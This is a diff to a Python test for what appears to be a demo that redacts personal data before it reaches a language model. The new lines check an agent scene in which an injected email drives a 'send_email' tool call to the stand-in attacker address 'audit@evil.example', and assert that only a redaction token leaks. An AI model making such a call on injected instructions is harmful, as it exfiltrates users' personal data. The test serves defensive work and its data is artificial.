@@ -53,9 +53,15 @@ class TestDemo:
         assert sum(e["type"] == "refusal" for e in events) == 2
         # Each field is shown whole, wrapped under its label, never cut short.
         fields = re.findall(r"^  (\w[\w ]*?) *: (.*(?:\n {18}.*)*)", out, re.M)
-        assert len(fields) == 15 and not any("…" in text for _, text in fields)
+        assert len(fields) == 19 and not any("…" in text for _, text in fields)
         received = [" ".join(text.split()) for label, text in fields if label == "model received"]
-        assert len(received) == 3 and all("@" not in text for text in received)
+        assert len(received) == 4 and all("@" not in text for text in received)
+        # The agent scene: the trusted lookup gets the original, the injected mail a token.
+        tools = [" ".join(text.split()) for label, text in fields if label == "tool call"]
+        assert tools[0].startswith('lookup_account {"email": "maria.keller@example.com"}')
+        assert tools[1].startswith('send_email {"to": "audit@evil.example", "body": "[EMAIL_')
+        assert "maria.keller" not in tools[1]
+        assert sum(e.get("tool_tokens_kept", 0) for e in events) == 1
         assert all(text.endswith((".", ")")) for text in received)
         sent = [" ".join(text.split()) for label, text in fields if label == "app sent"]
         assert "4111 1111 1111 1111" in sent[0] and "maria.keller@example.com" in sent[0]
